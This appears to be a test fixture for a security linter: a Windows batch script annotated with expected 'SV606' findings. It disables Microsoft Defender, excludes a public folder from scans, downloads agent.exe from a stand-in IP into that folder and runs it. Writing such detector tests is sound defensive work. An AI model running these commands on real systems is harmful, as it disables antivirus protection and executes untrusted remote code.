@echo off
rem Prepare the machine
sc config WinDefend start= disabled # want "critical SV606: sc config WinDefend stops the Microsoft Defender antivirus service; the same file fetches a program from 203.0.113.9"
powershell -NoProfile -Command "Add-MpPreference -ExclusionPath C:\Users\Public" # want "critical SV606: excludes C:.Users.Public from Microsoft Defender scans .*saves a downloaded program into the excluded folder"
bitsadmin /transfer job /download /priority high http://203.0.113.9/agent.exe %PUBLIC%\agent.exe
start "" %PUBLIC%\agent.exe
